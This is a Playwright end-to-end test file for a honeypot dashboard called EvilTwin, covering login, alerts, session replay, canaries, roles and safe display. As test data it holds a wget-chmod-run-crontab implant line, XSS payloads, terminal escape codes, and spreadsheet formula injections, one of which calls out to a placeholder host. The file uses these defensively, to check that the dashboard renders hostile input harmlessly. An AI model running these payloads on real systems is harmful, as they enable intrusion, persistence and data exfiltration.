import { createHmac } from 'node:crypto'
import type { Page } from 'playwright-core'
import { afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { accessibilityProblems, expectNoSidewaysScroll, logIn, takePicture } from './browser.js'
import { platformOfFile } from './platform-of-file.js'
import { accessToken, PASSWORD, SENSOR_KEY } from './server-process.js'
import { recentCapture, sendEvent, sendLines } from './traffic.js'

const CANARY_SECRET = 'an end-to-end canary secret'
const IMPLANT = 'wget http://192.0.2.1/x; chmod 777 x; ./x; (crontab -l; echo x) | crontab -'
const platform = platformOfFile({
  BOOTSTRAP_SENSOR_KEY: SENSOR_KEY,
  CANARY_WEBHOOK_SECRET: CANARY_SECRET,
})
let page: Page
let problems: string[]

beforeEach(async () => {
  ;({ page, problems } = await platform.openPage())
})
afterEach(async () => {
  await page.close()
})

const enter = async (path = '/dashboard') => {
  await page.goto(platform.url + path)
  await logIn(page)
}

describe('the first day', () => {
  test('somebody logs in with the keyboard, reads what to do, and sees the first event arrive', async () => {
    await page.goto(platform.url)
    await page.locator('input[name=username]:focus').waitFor()
    await page.keyboard.type('admin')
    await page.keyboard.press('Tab')
    await page.keyboard.type(PASSWORD)
    await page.keyboard.press('Enter')
    await page.getByRole('heading', { name: 'Welcome to EvilTwin' }).waitFor()
    await page.getByText(`curl ${platform.url}/log`).waitFor()
    await sendEvent(platform.url, { username: 'root', password: 'x' })
    await page.getByRole('heading', { name: 'Last 24h' }).waitFor()
    await sendEvent(platform.url, { command: 'uname -a' })
    await page.getByTestId('Events').getByText('2', { exact: true }).waitFor()
    const attackers = page.getByRole('region', { name: 'Top attackers' })
    await attackers.getByRole('cell', { name: '203.0.113.7' }).waitFor()
    await page.getByTestId('Active sessions').getByRole('link').click()
    await page.waitForURL(/active=true/)
    await page.getByRole('region', { name: 'List of sessions' }).getByText('203.0.113.7').waitFor()
    await page.getByRole('button', { name: 'Log out' }).click()
    await page.getByRole('heading', { name: 'Log in' }).waitFor()
    expect(problems).toEqual([])
  })

  test('a wrong password is said so and logs nobody in', async () => {
    await page.goto(platform.url)
    await page.getByLabel('Username').fill('admin')
    await page.getByLabel('Password').fill('wrong')
    await page.getByRole('button', { name: 'Log in' }).click()
    await page.getByText('the username or the password is wrong').waitFor()
  })

  test('a login survives a reload without a token where scripts can read, and is no other site’s to use', async () => {
    await enter()
    await page.reload()
    await page.getByRole('heading', { name: 'Last 24h' }).waitFor()
    const readable = await page.evaluate(() =>
      JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]),
    )
    expect(readable).not.toMatch(/eyJ|[A-Za-z0-9_-]{40}/)
    const cookies = await page.context().cookies(`${platform.url}/auth`)
    expect(cookies.map(({ name }) => name).sort()).toEqual(['eviltwin_device', 'eviltwin_refresh'])
    for (const each of cookies)
      expect(each).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/auth' })
    const cookie = cookies.find(({ name }) => name === 'eviltwin_refresh')
    const refresh = (headers: Record<string, string>) =>
      fetch(`${platform.url}/auth/refresh`, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          cookie: `${cookie?.name}=${cookie?.value}`,
          ...headers,
        },
        body: '{}',
      })
    expect((await refresh({})).status).toBe(403)
    expect((await refresh({ 'x-eviltwin-dashboard': '1', 'sec-fetch-site': 'cross-site' })).status).toBe(403)
    expect((await refresh({ 'x-eviltwin-dashboard': '1', 'sec-fetch-site': 'same-origin' })).status).toBe(200)
  })

  test('the pages of the API documentation render, and run no script that the policy would stop', async () => {
    await page.goto(`${platform.url}/docs`)
    await page.locator('.opblock-tag', { hasText: 'ingest' }).click()
    await page.getByText('Send sensor events').waitFor()
    expect(problems.filter((text) => /script|refused to connect/i.test(text))).toEqual([])
  })
})

describe('alerts', () => {
  test('one appears while one looks, and so does a canary, with hostile text inert', async () => {
    await enter()
    const alerts = page.getByRole('list', { name: 'Newest alerts' })
    await page.getByText('Feed connected').waitFor()
    await sendEvent(platform.url, { source_ip: '203.0.113.50', session: 'a', command: IMPLANT })
    await alerts.getByRole('link', { name: '203.0.113.50' }).waitFor()
    const body = JSON.stringify({
      src_ip: '203.0.113.51',
      timestamp: new Date().toISOString(),
      memo: '<img src=x onerror=alert(1)>',
    })
    const signature = createHmac('sha256', CANARY_SECRET).update(body).digest('hex')
    const touched = await fetch(`${platform.url}/canary/webhook`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-canary-signature': `sha256=${signature}` },
      body,
    })
    expect(touched.status).toBe(200)
    const item = alerts.getByRole('listitem').filter({ hasText: '203.0.113.51' })
    await item.getByText('critical').waitFor()
    await item.getByText('<img src=x onerror=alert(1)>').waitFor()
    expect(problems).toEqual([])
  })

  test('are acknowledged, assigned, commented and resolved, one and many at once', async () => {
    for (const [n, source_ip] of ['203.0.113.61', '203.0.113.62', '203.0.113.63'].entries())
      await sendEvent(platform.url, { source_ip, session: `many ${n}`, command: IMPLANT })
    await enter('/dashboard/alerts')
    const row = (ip: string) => page.getByRole('row').filter({ hasText: ip })
    await row('203.0.113.61').getByRole('button').click()
    const dialog = page.getByRole('dialog', { name: 'Alert' })
    await dialog.getByRole('button', { name: 'Acknowledge' }).click()
    await dialog.getByText('acknowledged').first().waitFor()
    await dialog.getByRole('button', { name: 'Assign to me' }).click()
    await dialog.getByText('assigned to admin').waitFor()
    await dialog.getByRole('button', { name: 'Unassign' }).click()
    await dialog.getByLabel('Assign to another user').fill('admin')
    await page.keyboard.press('Enter')
    await dialog.getByText('assigned to admin').waitFor()
    await dialog.getByLabel('Comment').fill('looks like <b>Mozi</b>')
    await page.keyboard.press('Enter')
    await dialog.getByText('looks like <b>Mozi</b>').waitFor()
    expect(await accessibilityProblems(page), 'the alert').toEqual([])
    await dialog.getByRole('button', { name: 'Resolve' }).click()
    await dialog.getByRole('button', { name: 'Reopen' }).waitFor()
    expect(new URL(page.url()).searchParams.get('alert')).toMatch(/^[0-9a-f-]{36}$/)
    await page.keyboard.press('Escape')
    await dialog.waitFor({ state: 'detached' })
    for (const ip of ['203.0.113.62', '203.0.113.63'])
      await page.getByLabel(`Select the alert of ${ip}`).check()
    await page.getByRole('button', { name: 'Acknowledge 2' }).click()
    for (const ip of ['203.0.113.62', '203.0.113.63'])
      await row(ip).getByRole('cell', { name: 'acknowledged' }).waitFor()
    await page.getByLabel('State').selectOption('resolved')
    await row('203.0.113.61').waitFor()
    await row('203.0.113.62').waitFor({ state: 'detached' })
    expect(problems).toEqual([])
  })
})

describe('sessions', () => {
  beforeAll(async () => {
    await sendLines(platform.url, recentCapture())
    for (const [second, event] of [
      { username: 'root', password: 'toor', outcome: 'success' },
      { command: 'uname -a' },
      { command: IMPLANT },
    ].entries()) {
      const time = new Date(Date.now() - 10_000 + second * 1000).toISOString()
      await sendEvent(platform.url, { source_ip: '203.0.113.70', session: 'watched', time, ...event })
    }
  })

  const openWatched = async () => {
    await enter('/dashboard/sessions?src_ip=203.0.113.70')
    await page.getByRole('link', { name: 'just now' }).click()
    await page.getByRole('heading', { name: /Session of 203\.0\.113\.70/ }).waitFor()
  }

  test('are narrowed by facets and text, and the URL says what is shown', async () => {
    await enter('/dashboard/sessions')
    const rows = page.getByRole('region', { name: 'List of sessions' }).getByRole('row')
    await rows.nth(5).waitFor()
    await page
      .getByRole('group', { name: 'Level' })
      .getByRole('button', { name: /^critical/ })
      .click()
    await page.waitForURL(/[?&]level=critical/)
    await page.getByLabel('Text in commands').fill('crontab')
    await page.keyboard.press('Enter')
    await page.waitForURL(/q=crontab/)
    await rows.filter({ hasText: '203.0.113.70' }).waitFor()
    await page.reload()
    await rows.filter({ hasText: '203.0.113.70' }).waitFor()
    expect(await page.getByLabel('Text in commands').inputValue()).toBe('crontab')
    await page.goBack()
    await page.waitForURL((url) => !url.searchParams.has('q'))
    expect(problems).toEqual([])
  })

  test('are narrowed to a time between two moments, shown by the clock that the page shows', async () => {
    await enter('/dashboard/sessions?src_ip=203.0.113.70')
    const rows = page.getByRole('region', { name: 'List of sessions' }).getByRole('row')
    await rows.nth(1).waitFor()
    await page.getByRole('button', { name: /Times are shown in/ }).click()
    const from = page.getByLabel('An event since (UTC)')
    await from.fill('2001-01-01T00:00:00')
    await page.getByLabel('Started before (UTC)').fill('2001-01-02T12:30:05')
    await page.keyboard.press('Enter')
    await page.getByText('No session matches in this time').waitFor()
    const { searchParams } = new URL(page.url())
    expect(searchParams.get('from')).toBe('2001-01-01T00:00:00.000Z')
    expect(searchParams.get('to')).toBe('2001-01-02T12:30:05.000Z')
    await page.getByLabel('Started before (UTC)').fill('2101-01-01T00:00:00')
    await page.keyboard.press('Enter')
    await rows.nth(1).waitFor()
    await page.goto(`${page.url().replace(/from=[^&]*/, 'from=nonsense')}`)
    await rows.nth(1).waitFor()
    expect(await from.inputValue()).toBe('')
    await page.getByRole('button', { name: /Times are shown in/ }).click()
    expect(problems).toEqual([])
  })

  test('explain their score, are triaged with citations that lead to the event, and exported', async () => {
    await openWatched()
    const why = page.getByRole('region', { name: 'Score breakdown' })
    await why.getByText('Access is being kept').waitFor()
    await page.getByRole('button', { name: 'Analyse this session' }).click()
    const triage = page.getByRole('region', { name: 'Triage' })
    await triage.getByText('by rules', { exact: true }).waitFor()
    const citation = triage.getByRole('listitem').filter({ hasText: 'T1105' }).getByRole('button').first()
    await citation.click()
    const focused = page.locator('.event:focus')
    expect(await focused.textContent()).toContain('wget http://192.0.2.1/x')
    const file = page.waitForEvent('download')
    await page.getByRole('button', { name: 'STIX' }).click()
    expect((await file).suggestedFilename()).toMatch(/^iocs-.*-stix\.json$/)
    expect(problems).toEqual([])
  })

  test('a question is refused with the reason while there is no LLM', async () => {
    await openWatched()
    await page.getByLabel('Question').fill('What did they want?')
    await page.keyboard.press('Enter')
    await page.getByRole('region', { name: 'Ask about this session' }).getByRole('alert').waitFor()
  })

  test('are replayed: from any point, at any speed', async () => {
    await openWatched()
    const terminal = page.getByRole('region', { name: 'Terminal' })
    await terminal.getByText('uname -a').waitFor()
    await page.getByLabel('Position').fill('0')
    await terminal.getByText('login: root / toor (success)').waitFor()
    await terminal.getByText('uname -a').waitFor({ state: 'detached' })
    await page.getByLabel('Speed').selectOption('50')
    await page.getByRole('button', { name: 'Play' }).click()
    await terminal.getByText('crontab -l').waitFor()
    await page.getByRole('button', { name: 'Play' }).waitFor()
  })
})

describe('the platform', () => {
  test('a canary is created and visited, and its hit is shown', async () => {
    await enter('/dashboard/canaries')
    await page.getByRole('button', { name: 'New canary' }).click()
    await page.getByLabel('Location').fill('finance share')
    await page.getByRole('button', { name: 'Create' }).click()
    const dialog = page.getByRole('dialog', { name: 'Canary' })
    const url = (await dialog.locator('pre').textContent()) ?? ''
    expect(url).toContain('/c/')
    await fetch(new URL(new URL(url).pathname, platform.url))
    await page.keyboard.press('Escape')
    const row = page.getByRole('row').filter({ hasText: 'finance share' })
    await row.getByRole('cell', { name: '1', exact: true }).waitFor()
    await page.getByRole('link', { name: /^Alerts/ }).click()
    await page.getByRole('row').filter({ hasText: 'finance share' }).getByText('critical').waitFor()
    expect(problems).toEqual([])
  })

  test('an operational alert is silenced, and heard again', async () => {
    await enter('/dashboard/operations')
    await page.getByRole('button', { name: 'Silence Auth failure spike' }).click()
    await page.getByLabel('Reason').fill('a load test')
    await page.getByRole('dialog').getByRole('button', { name: 'Silence' }).click()
    await page.getByRole('row').filter({ hasText: 'Auth failure spike' }).getByText('silenced').waitFor()
    const silences = page.getByRole('region', { name: 'Silences and maintenance windows' })
    await silences.getByText('a load test').waitFor()
    await silences.getByRole('button', { name: 'End' }).click()
    await silences.getByText('Nothing is silenced').waitFor()
    expect(problems).toEqual([])
  })

  test('a user, a key and a channel are made; the channel is tested and says why it fails', async () => {
    await enter('/dashboard/settings?tab=keys')
    await page.getByLabel('Name', { exact: true }).fill('a new sensor')
    await page.getByRole('button', { name: 'Create' }).click()
    const key = (await page.getByRole('status').locator('pre').textContent()) ?? ''
    const answer = await fetch(`${platform.url}/log`, {
      method: 'POST',
      headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
      body: JSON.stringify({ source_ip: '203.0.113.80', time: new Date().toISOString() }),
    })
    expect(answer.status).toBe(200)
    await page.getByRole('tab', { name: 'Channels' }).click()
    await page.waitForURL(/tab=channels/)
    await page.getByLabel('Name', { exact: true }).fill('the wall')
    await page.getByLabel('URL').fill('http://127.0.0.1:9/hook')
    await page.getByLabel('Signing secret').fill('0123456789abcdef01234567')
    await page.getByRole('button', { name: 'Add' }).click()
    await page.getByRole('button', { name: 'Test the wall' }).click()
    await page.getByRole('status').filter({ hasText: '✕' }).waitFor()
    await page.getByRole('tab', { name: 'Audit log' }).click()
    const entry = page.getByRole('row').filter({ hasText: 'channel.test' })
    await entry.getByText('admin').waitFor()
    await page.getByLabel('Action').fill('api_key.')
    await page.getByRole('button', { name: 'Filter' }).click()
    await page.getByRole('row').filter({ hasText: 'a new sensor' }).waitFor()
    expect(await page.getByRole('row').filter({ hasText: 'channel.test' }).count()).toBe(0)
    expect(await page.content()).not.toContain(key)
  })

  test('retention is shortened only by somebody who says what it removes', async () => {
    await enter('/dashboard/settings?tab=retention')
    const days = page.getByLabel('Days that events, sessions and alerts are kept')
    expect(await days.inputValue()).toBe('90')
    await days.fill('60')
    await page.keyboard.press('Enter')
    const agreed = page.getByLabel('Remove what was received more than 60 days ago')
    expect(await agreed.evaluate((box: HTMLInputElement) => box.validity.valueMissing)).toBe(true)
    await agreed.check()
    await page.getByRole('button', { name: 'Save' }).click()
    await page.getByRole('status').filter({ hasText: 'Set by admin' }).waitFor()
    await page.reload()
    await page.getByRole('status').filter({ hasText: 'Set by admin' }).waitFor()
    expect(await days.inputValue()).toBe('60')
  })
})

describe('roles', () => {
  beforeAll(async () => {
    const token = await accessToken(platform.url)
    for (const role of ['viewer', 'analyst'])
      await fetch(`${platform.url}/users`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ username: `a-${role}`, password: PASSWORD, role }),
      })
  })

  test('a viewer sees, and finds nothing to change', async () => {
    await page.goto(`${platform.url}/dashboard/alerts`)
    await logIn(page, 'a-viewer')
    await page.getByRole('row').nth(1).waitFor()
    expect(await page.getByRole('checkbox').count()).toBe(0)
    await page.getByRole('row').nth(1).getByRole('button').click()
    await page.getByRole('dialog').getByText('History').waitFor()
    expect(await page.getByRole('button', { name: /Acknowledge|Resolve|Assign/ }).count()).toBe(0)
    await page.goto(`${platform.url}/dashboard/settings?tab=users`)
    await page.getByRole('tab', { name: 'Profile' }).waitFor()
    expect(await page.getByRole('tab').allTextContents()).toEqual(['Profile', 'Alert policy'])
    await page.goto(`${platform.url}/dashboard/canaries`)
    await page.getByRole('heading', { name: 'Canary tokens' }).waitFor()
    expect(await page.getByRole('button', { name: 'New canary' }).count()).toBe(0)
    expect(problems).toEqual([])
  })

  test('an analyst handles alerts, and manages nobody', async () => {
    await page.goto(`${platform.url}/dashboard/alerts`)
    await logIn(page, 'a-analyst')
    await page.getByRole('checkbox', { name: 'Select all' }).waitFor()
    await page.goto(`${platform.url}/dashboard/settings`)
    await page.getByRole('tab', { name: 'Profile' }).waitFor()
    expect(await page.getByRole('tab', { name: 'Users' }).count()).toBe(0)
  })
})

describe('the keyboard alone', () => {
  test('reaches pages, sessions and help', async () => {
    await enter()
    await page.getByRole('heading', { name: 'Last 24h' }).waitFor()
    await page.keyboard.press('?')
    await page.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor()
    expect(await accessibilityProblems(page), 'the shortcuts').toEqual([])
    await page.keyboard.press('Escape')
    await page.keyboard.press('g')
    await page.keyboard.press('s')
    await page.waitForURL(/\/dashboard\/sessions$/)
    await page.locator('[data-row]').nth(1).waitFor()
    await page.keyboard.press('j')
    await page.keyboard.press('j')
    await page.keyboard.press('Enter')
    await page.waitForURL(/\/dashboard\/sessions\/[0-9a-f-]{36}/)
    await page.keyboard.press('Control+k')
    const palette = page.getByRole('dialog', { name: 'Go to …' })
    await palette.locator('input:focus').waitFor()
    await page.keyboard.type('203.0.113.70')
    await palette.getByText('Profile of 203.0.113.70').waitFor()
    expect(await accessibilityProblems(page), 'the palette').toEqual([])
    await page.keyboard.press('Enter')
    await page.waitForURL(/attackers\/203\.0\.113\.70/)
    await page.keyboard.press('Control+k')
    await palette.locator('input:focus').waitFor()
    await page.keyboard.type('quarant')
    await palette.getByRole('option', { name: 'Quarantine', selected: true }).waitFor()
    await page.keyboard.press('Enter')
    await page.waitForURL(/quarantine/)
    await page.keyboard.press('p')
    await page.getByRole('button', { name: 'Paused' }).waitFor()
    await page.waitForURL(/paused=true/)
    expect(problems).toEqual([])
  })
})

const PAGES = [
  ['overview', '/dashboard', 'Last 24h'],
  ['sessions', '/dashboard/sessions', 'Sessions'],
  ['attackers', '/dashboard/attackers', 'Attackers'],
  ['attacker', '/dashboard/attackers/203.0.113.70', '203.0.113.70'],
  ['alerts', '/dashboard/alerts', 'Alerts'],
  ['techniques', '/dashboard/techniques', 'ATT&CK matrix, last 24h'],
  ['feeds', '/dashboard/feeds', 'Feeds'],
  ['canaries', '/dashboard/canaries', 'Canary tokens'],
  ['sensors', '/dashboard/sensors', 'Sensors'],
  ['evidence', '/dashboard/evidence', 'Evidence'],
  ['slos', '/dashboard/slos', 'Service level objectives'],
  ['operations', '/dashboard/operations', 'Operational alerts'],
  ['health', '/dashboard/health', 'Health and weekly review'],
  ['quarantine', '/dashboard/quarantine', 'Quarantine'],
  ['profile', '/dashboard/settings', 'Settings'],
  ['policy', '/dashboard/settings?tab=policy', 'Settings'],
  ['users', '/dashboard/settings?tab=users', 'Settings'],
  ['keys', '/dashboard/settings?tab=keys', 'Settings'],
  ['channels', '/dashboard/settings?tab=channels', 'Settings'],
  ['retention', '/dashboard/settings?tab=retention', 'Settings'],
  ['audit', '/dashboard/settings?tab=audit', 'Settings'],
] as const

describe.each(['light', 'dark'] as const)('every page in %s', (colorScheme) => {
  test('has no fault that axe finds, asks nothing of others, and fits 360 pixels and 4K', async () => {
    await fetch(`${platform.url}/log`, {
      method: 'POST',
      headers: { authorization: `Bearer ${SENSOR_KEY}`, 'content-type': 'application/x-ndjson' },
      body: '{"neither":"address nor time"}',
    })
    await page.emulateMedia({ colorScheme })
    await page.goto(platform.url)
    await page.getByRole('heading', { name: 'Log in' }).waitFor()
    expect(await accessibilityProblems(page), 'login').toEqual([])
    await takePicture(page, `login-${colorScheme}`)
    await logIn(page)
    const [sessionPath, sloPath] = await Promise.all(['sessions?src_ip=203.0.113.70', 'slos'].map(firstOf))
    for (const [name, path, heading] of [
      ...PAGES,
      ['session', `/dashboard/sessions/${sessionPath}`, 'Session of'] as const,
      ['slo', `/dashboard/slos/${sloPath}`, ''] as const,
    ]) {
      await page.setViewportSize({ width: 1400, height: 900 })
      await page.goto(platform.url + path)
      await page.getByRole('heading', { level: 1, name: heading }).waitFor()
      await page.locator('[aria-busy=true]').first().waitFor({ state: 'detached' })
      expect(await accessibilityProblems(page), name).toEqual([])
      if (name === 'session') {
        await page.getByRole('button', { name: 'Analyse this session' }).click()
        await page.getByRole('region', { name: 'Triage' }).getByText('by rules', { exact: true }).waitFor()
        expect(await accessibilityProblems(page), 'triage').toEqual([])
      }
      await takePicture(page, `${name}-${colorScheme}`)
      await page.setViewportSize({ width: 360, height: 800 })
      await expectNoSidewaysScroll(page, name)
      await page.setViewportSize({ width: 3840, height: 2160 })
      await expectNoSidewaysScroll(page, `${name} in 4K`)
    }
    expect(problems).toEqual([])
  })

  async function firstOf(list: string): Promise<string> {
    const token = await accessToken(platform.url)
    const answer = await fetch(`${platform.url}/${list}`, {
      headers: { authorization: `Bearer ${token}` },
    })
    return ((await answer.json()) as { items: Array<{ id: string }> }).items[0]?.id ?? ''
  }
})

describe('what attackers write', () => {
  const HOSTILE = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(2)>',
    '"><svg onload=alert(3)>',
    '\u001b[2J\u001b[31mred\u001b]0;title\u0007',
    '\u202egpj.exe',
    'ad\u200bmin\ufeff',
    '=HYPERLINK("http://192.0.2.66/"&A1,"x")',
    '@SUM(1+1)*cmd|calc',
    'javascript:alert(4)',
  ]

  test('is text everywhere, shown for what it is, exports included', async () => {
    const common = { source_ip: '203.0.113.90', session: 'hostile', sensor_id: '<b>sensor</b>' }
    for (const text of HOSTILE) {
      await sendEvent(platform.url, { ...common, username: text, password: text })
      await sendEvent(platform.url, { ...common, command: text })
      await sendEvent(platform.url, { ...common, event_type: 'file_upload', url: text, message: text })
    }
    await enter('/dashboard/sessions?src_ip=203.0.113.90')
    await page.getByText('<b>sensor</b>').first().waitFor()
    await page.getByRole('link', { name: 'just now' }).click()
    await page.getByRole('heading', { name: /Session of/ }).waitFor()
    await page.getByText('<script>alert(1)</script>').first().waitFor()
    await page.getByText('U+202E').first().waitFor()
    await page.getByText('U+001B').first().waitFor()
    await page.getByText('U+200B').first().waitFor()
    await page.getByRole('button', { name: 'Analyse this session' }).click()
    await page.getByRole('region', { name: 'Triage' }).getByText('by rules', { exact: true }).waitFor()
    const main = page.locator('main')
    for (const unseen of ['\u001b', '\u202e', '\u200b', '\ufeff'])
      expect(
        await main.evaluate((element, character) => element.textContent?.includes(character), unseen),
      ).toBe(false)
    expect(await page.locator('main script, main img, main b, main svg[onload]').count()).toBe(0)
    expect(await page.locator('a[href^="javascript:"]').count()).toBe(0)

    const file = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Export as CSV' }).click()
    const csv = await readDownload(await file)
    expect(csv).toContain('"\'=HYPERLINK(""http://192.0.2.66/""&A1,""x"")"')
    expect(csv).not.toMatch(/(?:^|,|\n)"?[=@+]/)
    for (const path of [
      '/dashboard',
      '/dashboard/attackers/203.0.113.90',
      '/dashboard/alerts',
      '/dashboard/sensors',
    ]) {
      await page.goto(platform.url + path)
      await page.getByText('<b>sensor</b>').first().waitFor()
    }
    expect(problems).toEqual([])
  })

  async function readDownload(download: {
    createReadStream(): Promise<NodeJS.ReadableStream>
  }): Promise<string> {
    const chunks: Buffer[] = []
    for await (const chunk of await download.createReadStream()) chunks.push(Buffer.from(chunk))
    return Buffer.concat(chunks).toString()
  }
})
